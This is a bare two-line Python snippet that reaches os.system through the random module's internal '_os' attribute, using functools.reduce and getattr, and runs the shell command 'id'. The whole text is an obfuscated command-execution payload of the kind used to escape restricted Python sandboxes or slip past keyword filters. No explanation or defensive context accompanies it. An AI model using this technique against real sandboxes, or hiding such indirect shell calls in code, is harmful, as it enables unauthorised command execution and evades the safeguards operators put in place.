import functools, random
functools.reduce(getattr, ["_os", "system"], random)("id")
